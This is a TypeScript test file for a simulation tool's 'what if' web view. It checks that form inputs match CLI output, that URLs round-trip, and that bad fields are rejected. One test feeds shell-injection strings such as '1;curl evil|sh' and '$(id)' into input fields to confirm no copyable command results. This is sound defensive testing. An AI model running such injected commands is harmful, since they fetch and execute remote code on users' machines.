import { readFile } from 'node:fs/promises';

import { expect } from 'chai';

import { ProtocolError } from '../../src/protocol/errors.ts';
import { WAD } from '../../src/protocol/fixed-point.ts';
import { simulationCsv } from '../../src/simulation/simulation-csv.ts';
import { simulationDocument } from '../../src/simulation/simulation-json.ts';
import { presetFile, presetNames } from '../../src/store/preset-file.ts';
import { jsonDocument } from '../../src/cli/output/json-document.ts';
import {
  askedIn,
  commandOf,
  paramsOf,
  PRESETS,
  simulateAsked,
  UNASKED,
  type Asked,
} from '../../web/src/views/what-if/asked.ts';
import { answerTo } from '../../web/src/views/what-if/simulator.ts';
import { outcomeOf } from '../../web/src/views/what-if/outcome.ts';
import { lode } from '../cli/run-lode.ts';

const textOf = async (preset: string) => await readFile(await presetFile(preset, '/'), 'utf8');
const OWN = { name: 'langx', variant: null };

const ASKED: readonly Partial<Asked>[] = [
  { preset: 'lingoai', variant: 'demo', years: '2' },
  { preset: 'langx', people: '10:900', years: '1', price: '0.02' },
  { preset: 'lingopod', years: '2', price: 'random', seed: '7', units: '500' },
  { preset: 'tnet', years: '1', price: 'crash', from: '2027-02-01' },
];

function caught(act: () => unknown): ProtocolError | null {
  try {
    act();
    return null;
  } catch (error) {
    if (error instanceof ProtocolError) return error;
    throw error;
  }
}

describe('what if', () => {
  for (const part of ASKED) {
    const asked = { ...UNASKED, ...part };
    it(`gives what the command line gives: ${commandOf(asked) ?? ''}`, async () => {
      const result = simulateAsked(await textOf(asked.preset), asked);
      const words = (commandOf(asked) ?? '').split(' ').slice(1);
      const json = await lode([...words, '--json']);
      expect(jsonDocument(simulationDocument(result))).to.equal(json.stdout);
      const csv = await lode([...words, '--csv']);
      expect(simulationCsv(result.simulation.epochs)).to.equal(csv.stdout);
    });
  }

  it('offers the presets that come with lode', async () => {
    expect(PRESETS).to.deep.equal(await presetNames());
  });

  it('reads back what it writes into a link, and leaves out what is assumed anyway', () => {
    const asked = { ...UNASKED, preset: 'tnet', people: '1:9', weights: '0.5,0.5' };
    expect(askedIn(paramsOf(asked), OWN)).to.deep.equal(asked);
    expect(paramsOf(asked).toString()).to.equal('preset=tnet&people=1%3A9&weights=0.5%2C0.5');
    expect(askedIn(new URLSearchParams(), OWN)).to.deep.equal({ ...UNASKED, preset: 'langx' });
    expect(askedIn(new URLSearchParams(), { name: 'own', variant: 'x' })).to.deep.equal(UNASKED);
    expect(askedIn(new URLSearchParams('toString=1&preset=tnet'), OWN)).to.deep.equal({ ...UNASKED, preset: 'tnet' });
  });

  it('pays by other weights, and says that no command does', async () => {
    const asked = { ...UNASKED, preset: 'lingoai', years: '1', weights: '0.7,0.1,0.1,0.1' };
    const result = simulateAsked(await textOf('lingoai'), asked);
    expect(commandOf(asked)).to.equal(null);
    expect(outcomeOf(result).offers.tasks.map(({ weight }) => weight)).to.deep.equal(
      [7n, 1n, 1n, 1n].map((n) => (n * WAD) / 10n),
    );
    expect(result.simulation.epochs[0]?.participants).to.deep.equal([350, 50, 50, 50]);
  });

  it('names the field that cannot be read', async () => {
    const text = await textOf('lingopod');
    const wrong: readonly Partial<Asked>[] = [
      { years: '0' },
      { years: '1e3' },
      { people: '-1' },
      { people: '1:' },
      { price: '0' },
      { price: 'up' },
      { seed: '4294967296' },
      { units: '10001' },
      { from: '2026-13-01' },
      { weights: '1' },
      { weights: '0.2,0.2,0.2,0.2,0.3' },
    ];
    for (const part of wrong) {
      const [field] = Object.keys(part);
      const error = caught(() => simulateAsked(text, { ...UNASKED, preset: 'lingopod', ...part }));
      expect([error?.code, error?.details['field']]).to.deep.equal(['WHAT_IF_INVALID', field]);
    }
  });

  it('gives nobody a command to copy that a link has slipped something into', async () => {
    const slipped = ['1;curl evil|sh', '1 --json', '$(id)', '1\n2', '`id`', "'"];
    for (const units of slipped) {
      for (const preset of ['langx', 'lingopod']) {
        const asked = { ...UNASKED, preset, years: '1', units };
        const text = await textOf(preset);
        expect(caught(() => simulateAsked(text, asked))?.details['field'], preset).to.equal('units');
        expect(commandOf(asked), units).to.equal(null);
      }
    }
    for (const field of ['preset', 'variant', 'from', 'years', 'people', 'price', 'seed'] as const) {
      for (const text of slipped) expect(commandOf({ ...UNASKED, [field]: text }), field).to.equal(null);
    }
  });

  it('takes no day that no month has', async () => {
    const text = await textOf('tnet');
    const error = caught(() => simulateAsked(text, { ...UNASKED, preset: 'tnet', years: '1', from: '2027-02-31' }));
    expect(error?.details['field']).to.equal('from');
  });

  it('answers the page, and never throws', async () => {
    const presets = new Map([['tnet', await textOf('tnet')]]);
    expect(answerTo({ kind: 'run', asked: { ...UNASKED, preset: 'nothing' } }, presets)).to.include({
      field: 'preset',
    });
    expect(answerTo({ kind: 'run', asked: { ...UNASKED, preset: 'tnet', variant: 'none' } }, presets)).to.include({
      kind: 'refused',
    });
    expect(answerTo({ kind: 'run', asked: { ...UNASKED, preset: 'tnet', years: '1' } }, presets)).to.include({
      kind: 'outcome',
    });
    const svg = answerTo({ kind: 'file', type: 'svg' }, presets);
    expect(svg)
      .to.have.property('text')
      .that.matches(/^<svg [^]*<\/svg>\n$/);
  });
});
